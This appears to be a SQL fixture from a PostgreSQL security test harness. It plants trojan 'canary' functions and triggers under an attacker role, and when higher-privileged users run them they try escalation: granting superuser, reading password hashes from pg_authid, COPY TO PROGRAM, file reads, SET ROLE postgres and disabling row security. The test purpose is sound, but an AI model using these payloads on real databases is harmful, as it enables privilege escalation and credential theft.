-- What mallory has in each of the two schemas, here called {s}. Everything is qualified: attacks
-- put names of their own in front of the search path.

CREATE TABLE payments (
    id       bigint PRIMARY KEY,
    customer text,
    amount   numeric,
    currency text,
    paid_at  timestamptz DEFAULT now(),
    status   text,
    flag     boolean DEFAULT true,
    note     text DEFAULT 'note'
);
CREATE TABLE refunds (
    id         bigint PRIMARY KEY,
    payment_id bigint,
    amount     numeric,
    currency   text
);

-- A canary says what it was called for and whom it ran as, in a way that no rollback takes back
-- and no snapshot hides; then it tries what its rights may be good for, some times in a
-- transaction. `attack.mode` is empty where PostgreSQL itself runs it as a superuser.
CREATE FUNCTION canary(label text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
    calls int := pg_catalog.concat('0', pg_catalog.current_setting('attack.calls', true));
BEGIN
    IF calls OPERATOR(pg_catalog.>) 200 THEN
        RETURN true;
    END IF;
    PERFORM pg_catalog.set_config('attack.calls', (calls OPERATOR(pg_catalog.+) 1)::pg_catalog.text, true);
    RAISE WARNING 'canary|{s}|%|%', label, current_user;
    IF calls OPERATOR(pg_catalog.<) 5
        AND pg_catalog.length(pg_catalog.current_setting('attack.mode', true)) OPERATOR(pg_catalog.>) 0
    THEN
        PERFORM {s}.strike();
    END IF;
    RETURN true;
END
$$;

CREATE FUNCTION strike() RETURNS void LANGUAGE plpgsql AS $$
DECLARE
    is_call boolean := pg_catalog.current_setting('attack.mode', true) OPERATOR(pg_catalog.=) 'call';
    attempt text;
BEGIN
    FOREACH attempt IN ARRAY ARRAY[
        'escalated: superuser|ALTER ROLE mallory SUPERUSER',
        'escalated: membership|GRANT postgres TO mallory',
        'escalated: ledger read|SELECT FROM affiliate.commission',
        'escalated: ledger written|UPDATE affiliate.program SET rate = 1',
        'escalated: passwords read|SELECT rolpassword FROM pg_catalog.pg_authid',
        'escalated: program run|COPY (SELECT 1) TO PROGRAM ''cat >/dev/null''',
        'escalated: file read|SELECT pg_catalog.pg_read_file(''PG_VERSION'')',
        'escape: deferred trigger|INSERT INTO {s}.deferred DEFAULT VALUES',
        'escape: temporary table|CREATE TEMP TABLE canary_temp (); DROP TABLE pg_temp.canary_temp',
        'escape: held cursor|DECLARE canary_held CURSOR WITH HOLD FOR SELECT 1; CLOSE canary_held',
        'escape: prepared statement|PREPARE canary_prepared AS SELECT 1; DEALLOCATE canary_prepared'
    ] LOOP
        BEGIN
            EXECUTE pg_catalog.split_part(attempt, '|', 2);
            RAISE WARNING 'canary|{s}|%|%', pg_catalog.split_part(attempt, '|', 1), current_user;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    -- what is only worth trying in the session of somebody else's call
    IF is_call AND session_user OPERATOR(pg_catalog.<>) 'mallory' THEN
        FOREACH attempt IN ARRAY ARRAY[
            'escalated: role|SET ROLE postgres',
            'escalated: role reset|RESET ROLE',
            'escalated: session|SET SESSION AUTHORIZATION postgres'
        ] LOOP
            BEGIN
                EXECUTE pg_catalog.split_part(attempt, '|', 2);
                RAISE WARNING 'canary|{s}|%|%', pg_catalog.split_part(attempt, '|', 1), current_user;
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
        END LOOP;
        -- must not outlive the call; the runner looks at the settings after it
        PERFORM pg_catalog.set_config('search_path', '{s}, pg_catalog', false);
        PERFORM pg_catalog.set_config('row_security', 'off', false);
        PERFORM pg_catalog.set_config('datestyle', 'German, DMY', false);
    END IF;
END
$$;

CREATE TABLE deferred (at timestamptz DEFAULT now());
GRANT INSERT ON deferred TO PUBLIC;
CREATE FUNCTION deferred() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'canary|{s}|deferred trigger|%', current_user;
    RETURN NULL;
END
$$;
CREATE CONSTRAINT TRIGGER deferred AFTER INSERT ON deferred DEFERRABLE INITIALLY DEFERRED
    FOR EACH ROW EXECUTE FUNCTION deferred();

-- A function that says it is immutable and is a canary.
CREATE PROCEDURE lie(signature text, result text, expression text) LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE OR REPLACE FUNCTION {s}.%s RETURNS %s LANGUAGE plpgsql IMMUTABLE AS %L',
        signature, result, pg_catalog.format('BEGIN PERFORM {s}.canary(%L); RETURN %s; END',
            pg_catalog.split_part(signature, '(', 1), expression));
END
$$;
-- One that says so and tries nothing: indexes call it with a page locked, and what fails there
-- lets go of the lock.
CREATE PROCEDURE whisper(signature text, result text, expression text) LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE OR REPLACE FUNCTION {s}.%s RETURNS %s LANGUAGE plpgsql IMMUTABLE AS %L',
        signature, result, pg_catalog.format('BEGIN RAISE WARNING ''canary|{s}|%s|%%'', current_user; RETURN %s; END',
            pg_catalog.split_part(signature, '(', 1), expression));
END
$$;
-- One that is what it says, until the attack replaces it.
CREATE PROCEDURE honest(signature text, result text, expression text) LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format('CREATE FUNCTION {s}.%s RETURNS %s LANGUAGE plpgsql IMMUTABLE AS %L',
        signature, result, pg_catalog.format('BEGIN RETURN %s; END', expression));
END
$$;
-- For triggers.
CREATE FUNCTION tattle() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM {s}.canary(pg_catalog.concat(TG_NAME, ' ', TG_OP));
    RETURN COALESCE(NEW, OLD);
END
$$;
-- An enum with every text that the payments of the test have in any column.
CREATE PROCEDURE make_enum(name text) LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format('CREATE TYPE {s}.%I AS ENUM (%s)', name, (
        SELECT string_agg(quote_literal(label), ', ') FROM (
            SELECT n::text FROM generate_series(1, 399) n
            UNION ALL SELECT 'late-' || n FROM generate_series(1, 19) n
            UNION ALL SELECT unnest(ARRAY['user-1', 'user-2', 'nobody', 'USD', 'XXX', 'paid', 'true', 'false', 'note'])) l (label)));
END
$$;

GRANT USAGE ON SCHEMA {s} TO PUBLIC;
GRANT SELECT, INSERT, UPDATE, DELETE ON payments, refunds TO cashier;
